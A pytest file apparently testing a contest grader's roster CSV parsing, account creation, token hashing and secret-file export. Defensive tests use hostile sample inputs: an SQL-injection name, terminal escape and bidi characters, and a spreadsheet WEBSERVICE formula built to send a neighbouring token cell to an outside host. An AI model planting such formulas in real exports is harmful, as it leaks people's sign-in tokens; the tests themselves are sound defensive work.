"""Rosters: what is read, every mistake by its line, and accounts whose secrets the database can't tell."""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Sequence
from pathlib import Path

import pytest

from grader.contest.accounts import Issued, add_people, renew, revoke, secrets_to_csv, write_secrets
from grader.contest.auth import hash_token, new_token
from grader.contest.naming import plain_name
from grader.contest.roster import Person, parse_roster, read_roster
from grader.core.errors import UsageError, WorkspaceError

from .contests import contest

GOOD = "name,email,team,role\nAda Lovelace,ada@example.org,Engines,\n\nBob,bob@example.org,,STAFF\n"
PEOPLE = [Person("Ada Lovelace", "ada@example.org", "Engines"), Person("Bob", "bob@example.org", None, "staff")]


def mistakes(text: str | bytes, *, teams: bool = False) -> str:
    with pytest.raises(UsageError) as error:
        parse_roster(text if isinstance(text, bytes) else text.encode(), "r.csv", teams=teams)
    return error.value.message


@pytest.mark.parametrize(
    "data",
    [
        GOOD.encode(),
        b"\xef\xbb\xbf" + GOOD.encode(),
        GOOD.replace("\n", "\r\n").encode(),
        GOOD.replace("\n", "\r").encode(),
        GOOD.replace(",", ";").encode(),
        GOOD.encode("utf-16"),
        GOOD.replace(",", "\t").encode("utf-16"),
        GOOD.replace("name,email", "Name,E-Mail").encode(),
        GOOD.replace("name,email", " Name , EMAIL ").encode(),
    ],
)
def test_rosters_as_spreadsheets_write_them(data: bytes) -> None:
    assert parse_roster(data, "r.csv") == PEOPLE


def test_names_in_any_writing_are_kept() -> None:
    names = ["Zoë Ångström", "李小龙", "O'Brien, Conan", "<b>x</b>", "Robert'); DROP TABLE account;--"]
    text = "name,email\n" + "".join(f'"{name}",p{n}@example.org\n' for n, name in enumerate(names))
    assert [person.name for person in parse_roster(text.encode(), "r.csv")] == names


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", "line 1: the columns name and email are missing"),
        ("name,mail\nAda,a@x.org\n", "line 1: the column email is missing; it reads 'name,mail'"),
        ("name,email,name\n", "line 1: a column is there twice"),
        ("name,email,age\n", "line 1: there is no column 'age'"),
        ("name,email\n", "line 2: there is nobody in it"),
        ("name,email\nAda,a@x.org\nBob,A@X.org\n", "line 3: the email 'A@X.org' is in line 2 too"),
        ("name,email\nAda (2),a@x.org\n", "line 2: the name 'Ada (2)' ends as kgrade numbers namesakes"),
        ("name,email\nAda,none\n", "line 2: the email 'none' is not an address"),
        ("name,email\nAda\n", "line 2: the email '' is not an address"),
        ("name,email\n,a@x.org\n", "line 2: the name is missing"),
        ("name,email\nA\x1b[31mda,a@x.org\n", "line 2: the name 'A?[31mda' has characters that can't be shown"),
        ("name,email\n\u202eada,a@x.org\n", "line 2: the name"),
        (f"name,email\n{'a' * 65},a@x.org\n", "has 65 characters; up to 64"),
        ("name,email\nDoe, Jane,a@x.org\n", "line 2: 3 cells, 2 columns"),
        ("name,email,role\nAda,a@x.org,boss\n", "line 2: the role 'boss' is unknown"),
        ('name,email\n"two\nlines",a@x.org\nBob,x\n', "line 4: the email 'x'"),
    ],
)
def test_a_mistake_is_named_with_its_line(text: str, words: str) -> None:
    assert words in mistakes(text)


def test_all_mistakes_are_named_at_once() -> None:
    text = "name,email\n" + "".join(f"p{n},none{n}\n" for n in range(30))
    message = mistakes(text)
    assert "30 mistakes" in message and "line 2:" in message and "and 10 more" in message


def test_where_there_are_teams_each_student_needs_one() -> None:
    assert "column team is missing" in mistakes("name,email\nAda,a@x.org\n", teams=True)
    assert "line 2: the team is missing" in mistakes("name,email,team\nAda,a@x.org,\n", teams=True)
    assert len(parse_roster(b"name,email,team,role\nProf,p@x.org,,staff\n", "r.csv", teams=True)) == 1


def test_bytes_that_are_no_text() -> None:
    assert "line 2: this is not UTF-8" in mistakes(b"name,email\nZo\xeb,z@x.org\n")
    assert mistakes(b"name,email\nA\0da,a@x.org\n")


def test_a_file_that_is_not_there_or_too_large(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="can't be read"):
        read_roster(tmp_path / "none.csv")
    (tmp_path / "big.csv").write_bytes(b"x" * 2_000_001)
    with pytest.raises(UsageError, match="more than 2,000,000 bytes"):
        read_roster(tmp_path / "big.csv")


def test_accounts_are_made_and_found_by_their_secrets(tmp_path: Path) -> None:
    kept: list[Issued] = []
    with contest(tmp_path, people=()) as database:
        added = add_people(database, "a1", PEOPLE, kept.extend, who="prof")
        assert kept == list(added.issued) and added.known == 0
        for issued in kept:
            by_token, by_link = (
                database.account_by_token(hash_token(issued.token)),
                database.account_by_link(hash_token(issued.link)),
            )
            assert by_token is not None and by_token == by_link and by_token.name == issued.account
        assert [(a.team, a.role) for a in database.accounts("a1")] == [("Engines", "student"), (None, "staff")]
    raw = (tmp_path / "contests.db").read_bytes()
    for secret in (kept[0].token, kept[0].link):
        assert secret.encode() not in raw
    assert len({secret for issued in kept for secret in (issued.token, issued.link)}) == 4


def test_a_roster_may_be_read_again(tmp_path: Path) -> None:
    with contest(tmp_path, people=()) as database:
        add_people(database, "a1", PEOPLE, lambda issued: None, who="prof")
        before = database.accounts("a1")
        more = [Person("Ada Lovelace", "ada@example.org", "Others"), PEOPLE[1], Person("Cy", "cy@example.org")]
        added = add_people(database, "a1", more, lambda issued: None, who="prof")
        assert ([i.account for i in added.issued], added.known, added.moved) == (["Cy"], 2, 1)
        after = database.accounts("a1")
        assert [a.token_hash for a in after[:2]] == [a.token_hash for a in before]
        assert after[0].team == "Others"


@pytest.mark.parametrize("person", [Person("ada lovelace", "other@example.org"), Person("Someone", "ADA@example.org")])
def test_a_roster_that_contradicts_what_is_there_changes_nothing(tmp_path: Path, person: Person) -> None:
    with contest(tmp_path, people=()) as database:
        add_people(database, "a1", PEOPLE, lambda issued: None, who="prof")
        with pytest.raises(UsageError, match="nobody was added"):
            add_people(database, "a1", [Person("New", "new@example.org"), person], lambda issued: None, who="prof")
        assert len(database.accounts("a1")) == 2


def test_namesakes_are_two_accounts(tmp_path: Path) -> None:
    one, two, three = (Person("John Smith", f"js{n}@example.org") for n in (1, 2, 3))
    assert parse_roster(b"name,email\nJohn Smith,js1@example.org\nJohn Smith,js2@example.org\n", "r.csv") == [one, two]
    with contest(tmp_path, people=()) as database:
        issued = add_people(database, "a1", [one, two], lambda issued: None, who="prof").issued
        assert [(each.account, each.email) for each in issued] == [
            ("John Smith", one.email),
            ("John Smith (2)", two.email),
        ]
        again = add_people(database, "a1", [two, one, three], lambda issued: None, who="prof")
        assert ([each.account for each in again.issued], again.known) == (["John Smith (3)"], 2)
        with pytest.raises(UsageError, match="for a second one of that name list both"):
            add_people(database, "a1", [Person("John Smith", "js4@example.org")], lambda issued: None, who="prof")
        found = database.account_called("a1", "JS2@example.org")
        assert (found.name, plain_name(found.name)) == ("John Smith (2)", "John Smith")
        assert database.account_called("a1", "John Smith (2)") == database.account_called("a1", str(found.id)) == found
        with pytest.raises(UsageError, match=rf"name of 3 in 'a1': .*js2@example.org, number {found.id}\)") as error:
            database.account_called("a1", "john smith")
        assert "give the e-mail address or the number" in error.value.hint


def test_a_name_that_nobody_has_lists_near_ones(tmp_path: Path) -> None:
    with contest(tmp_path, people=["Dmitri Petrov", "ada", "bob"]) as database:
        for word in ("dmitri", "Dimitri Petrow", "petrov@example.org"):
            with pytest.raises(UsageError) as error:
                database.account_called("a1", word)
            assert "nobody in 'a1' is called" in error.value.message and "Dmitri Petrov" in error.value.hint
        for word in ("zzz", "", "99"):
            with pytest.raises(UsageError) as error:
                database.account_called("a1", word)
            assert "there are Dmitri Petrov, ada, bob" in error.value.hint


def test_no_account_without_a_place_for_its_secrets(tmp_path: Path) -> None:
    def full(issued: Sequence[Issued]) -> None:
        raise WorkspaceError("no space left")

    with contest(tmp_path, people=()) as database:
        with pytest.raises(WorkspaceError):
            add_people(database, "a1", PEOPLE, full, who="prof")
        assert database.accounts("a1") == []


def test_renewed_and_revoked_secrets_end_the_old_ones(tmp_path: Path) -> None:
    with contest(tmp_path, people=()) as database:
        (old, _) = add_people(database, "a1", PEOPLE, lambda issued: None, who="prof").issued
        account = database.account_by_name("a1", "Ada Lovelace")
        (fresh,) = renew(database, [account], lambda issued: None, who="prof")
        assert database.account_by_token(hash_token(old.token)) is None
        assert database.account_by_link(hash_token(old.link)) is None
        renewed = database.account_by_token(hash_token(fresh.token))
        assert renewed is not None and renewed.session_epoch > account.session_epoch
        revoke(database, account, who="prof")
        assert database.account_by_token(hash_token(fresh.token)) is None
        assert database.account_by_name("a1", "Ada Lovelace").session_epoch > renewed.session_epoch
        assert [a.what for a in database.audits("a1", 2)] == ["sign-in revoked", "sign-in renewed"]


def test_secrets_are_written_for_the_owner_alone_and_never_over_others(tmp_path: Path) -> None:
    path = tmp_path / "sign-in.csv"
    write_secrets(path, [Issued("Ada, L", "ada@example.org", "l1nk", "t0ken")], "https://x.org/")
    assert path.stat().st_mode & 0o777 == 0o600
    with path.open(newline="") as file:
        (row,) = csv.DictReader(file)
    assert row == {
        "name": "Ada, L",
        "email": "ada@example.org",
        "link": "https://x.org/sign-in/l1nk",
        "token": "t0ken",
    }
    before = path.read_bytes()
    with pytest.raises(UsageError, match="is there already"):
        write_secrets(path, [], "https://x.org")
    assert path.read_bytes() == before
    with pytest.raises(WorkspaceError, match="can't be written"):
        write_secrets(tmp_path / "none" / "x.csv", [], "https://x.org")


@pytest.mark.parametrize("name", ['=WEBSERVICE("http://x/"&D2)', "+1", "Ada;=D2", "＝D2"])
def test_no_name_is_a_formula_beside_tokens(name: str) -> None:
    text = secrets_to_csv([Issued(name, "+ada@example.org", "l1nk", "t0ken")], "https://x.org")
    (_, row) = csv.reader(io.StringIO(text))
    assert row[1:] == ["'+ada@example.org", "https://x.org/sign-in/l1nk", "t0ken"]
    assert not any(part.lstrip()[:1] in "=+-@＝" for cell in row for part in cell.split(";"))


def test_a_new_token_is_no_formula_either() -> None:
    assert all(new_token()[0].isalnum() for _ in range(500))


def test_a_roster_may_say_who_people_are_to_an_identity_provider() -> None:
    (ada, bob) = parse_roster(b"name,email,subject\nAda,ada@example.org,s-1\nBob,bob@example.org,\n", "r")
    assert (ada.subject, bob.subject) == ("s-1", None)
    with pytest.raises(UsageError, match="line 3: the subject 's-1' is in line 2 too"):
        parse_roster(b"name,email,subject\nAda,ada@example.org,s-1\nBob,bob@example.org,s-1\n", "r")
    with pytest.raises(UsageError, match="line 2: the subject"):
        parse_roster(b"name,email,subject\nAda,ada@example.org," + b"s" * 256 + b"\n", "r")


def test_letters_of_two_forms_make_namesakes() -> None:
    """Names that look alike have to get numbers."""
    text = "name,email\nZo\u00eb,zoe@example.org\nZoe\u0308,zoe2@example.org\n"
    assert [person.name for person in parse_roster(text.encode(), "the roster")] == ["Zo\u00eb", "Zo\u00eb"]


def test_marks_over_letters_are_ordered_in_short_cells_only() -> None:
    """Each takes seconds in Python's normal form, and a roster has room for many."""
    marks = "\u0301\u0316" * 60_000
    began = time.process_time()
    assert "line 2: a cell has more than 1,000 characters" in mistakes(f"name,email\n{'a' + marks},a@x.org\n" * 4)
    assert time.process_time() - began < 1.0
